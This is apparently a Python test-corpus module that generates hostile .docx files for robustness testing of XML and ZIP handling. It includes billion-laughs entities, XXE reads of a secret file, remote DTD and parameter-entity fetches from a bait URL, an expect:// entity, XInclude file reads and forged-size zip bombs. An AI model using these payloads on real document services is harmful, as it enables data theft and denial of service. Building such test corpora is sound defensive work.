"""XML inside Office documents: entities, remote parts, size and depth."""

from __future__ import annotations

import zlib

from hostile.corpus.case import Bait, case, deflated, fixed
from hostile.corpus.zips import Entry, forged, packed

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    'ContentType="application/xml"/></Types>'
)


def docx(document: str | bytes, **parts: str | bytes) -> bytes:
    """A Word document with this main part, and others: `a__b` is a/b."""
    named = {name.replace("__", "/").replace("DOT", "."): data for name, data in parts.items()}
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": document} | named)


def body(inner: str, head: str = "") -> str:
    """A main part."""
    return f'{head}<w:document xmlns:w="{W}"><w:body>{inner}</w:body></w:document>'


def paragraph(text: str) -> str:
    """A paragraph of one run."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _part(stored: bytes, size: int, crc: int = 0) -> bytes:
    return forged([Entry(b"word/document.xml", stored, size, method=8, crc=crc)])


_LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
_DTDS = {
    "billion laughs": f'<!DOCTYPE d [<!ENTITY l0 "lol">{_LAUGHS}]>&l9;',
    "quadratic entity": f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>{"&a;" * 20_000}',
    "entity of a file": '<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>&x;',
    "entity of an address": '<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/entity">]>&x;',
    "parameter entity": '<!DOCTYPE d [<!ENTITY % x SYSTEM "{url}/parameter"> %x;]>',
    "remote DTD": '<!DOCTYPE d SYSTEM "{url}/remote.dtd">',
    "remote DTD by public name": '<!DOCTYPE d PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}/public.dtd">',
    "entity that holds itself": '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>&a;',
    "attribute list of an entity": '<!DOCTYPE d [<!ENTITY a "x"><!ATTLIST w:document y CDATA "&a;">]>',
    "file over FTP": '<!DOCTYPE d [<!ENTITY x SYSTEM "ftp://127.0.0.1/x">]>&x;',
    "file of a program": '<!DOCTYPE d [<!ENTITY x SYSTEM "expect://id">]>&x;',
}
for _title, _dtd in _DTDS.items():

    @case(f"xml/{_title}")
    def _with_dtd(bait: Bait, dtd: str = _dtd) -> bytes:
        dtd = dtd.replace("{url}", bait.url).replace("{secret}", bait.secret)
        declaration, _, text = dtd.partition("]>") if "[" in dtd else (dtd, "", "")
        closed = f"{declaration}]>" if "[" in dtd else declaration
        return docx(body(paragraph(text), f'<?xml version="1.0"?>{closed}'))


@case("xml/entity in the relations")
def _relations(bait: Bait) -> bytes:
    rels = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{bait.secret}">]><Relationships>&x;</Relationships>'
    return docx(body(paragraph("a")), word___rels__documentDOTxmlDOTrels=rels)


@case("xml/XInclude of a file")
def _include(bait: Bait) -> bytes:
    return docx(
        body(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{bait.secret}" parse="text"/>')
    )


@case("xml/style sheet and schema from afar")
def _style(bait: Bait) -> bytes:
    head = f'<?xml-stylesheet type="text/xsl" href="{bait.url}/x.xsl"?>'
    xsi = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance"'
    return docx(body(f'<w:p {xsi} i:schemaLocation="x {bait.url}/x.xsd"/>', head))


fixed("xml/323 KB that are 1.6 GB", lambda: docx_bomb(1638))
fixed("xml/200 MiB of NUL", lambda: docx_bomb(200))
fixed("xml/200 MiB of spaces", lambda: docx_bomb(200, b" "))
fixed("xml/part that says it is small", lambda: _part(deflated(400), 1000))
fixed("xml/text of 100 MiB", lambda: docx(body(paragraph("年" * (35 << 20)))), slow=True)
fixed("xml/8 million elements", lambda: docx(body("<w:p/>" * 8_000_000)), slow=True)
fixed("xml/100,000 levels", lambda: docx(body("<w:p>" * 100_000 + "</w:p>" * 100_000)))
fixed("xml/250 levels of content controls", lambda: docx(body("<w:sdt>" * 250 + "</w:sdt>" * 250)))
fixed(
    "xml/50,000 attributes",
    lambda: docx(body(f"<w:p {' '.join(f'a{n}=&quot;&quot;'.replace('&quot;', chr(34)) for n in range(50_000))}/>")),
)  # fmt: skip
fixed(
    "xml/20,000 namespaces",
    lambda: docx(body(f"<w:p {' '.join(f'xmlns:n{n}={chr(34)}u{n}{chr(34)}' for n in range(20_000))}/>")),
)  # fmt: skip
fixed("xml/attribute of 20 MiB", lambda: docx(body(f'<w:p a="{"x" * (20 << 20)}"/>')))
fixed("xml/a name of 1 MiB", lambda: docx(body(f"<{'a' * (1 << 20)}/>")))
fixed("xml/comments and instructions", lambda: docx(body("<!--x--><?y z?>" * 50_000)))
fixed("xml/CDATA", lambda: docx(body(paragraph("<![CDATA[" + "]]" * 100_000 + "]]>"))))
fixed("xml/UTF-7", docx(body("+ADw-script+AD4-", '<?xml version="1.0" encoding="utf-7"?>')))
fixed("xml/UTF-16 that is none", docx(body("x", '<?xml version="1.0" encoding="utf-16"?>')))
fixed("xml/unknown charset", docx(body("x", '<?xml version="1.0" encoding="x-evil"?>')))
fixed("xml/not closed", docx(body("<w:p>" * 100)[:-20]))
fixed("xml/characters XML forbids", docx(body(paragraph("&#0;&#1;&#xFFFE;"))))
fixed("xml/empty part", docx(b""))


def docx_bomb(mebibytes: int, byte: bytes = b"\0") -> bytes:
    """A Word document whose main part unpacks to so much."""
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(byte * (1 << 20), crc)
    return _part(deflated(mebibytes, byte), mebibytes << 20, crc)
